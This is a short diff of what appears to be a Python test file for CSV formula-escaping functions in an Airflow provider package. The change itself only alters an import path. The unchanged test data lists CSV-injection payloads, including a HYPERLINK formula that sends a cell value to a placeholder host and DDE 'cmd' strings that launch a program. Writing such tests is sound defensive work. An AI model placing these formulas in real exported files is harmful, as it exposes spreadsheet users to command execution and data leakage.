@@ -9,7 +9,7 @@ import json
 import pytest
 
 from airflow_provider_retreaver.storage.csv_cells import escape_formula, escape_formulas
-from airflow_provider_retreaver.transfers.file_formats import CommaSeparated
+from airflow_provider_retreaver.transfers.csv_calls import CommaSeparated
 
 RUN = [
     "=1+1", '=HYPERLINK("http://x.test/?"&A1,"open")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3",
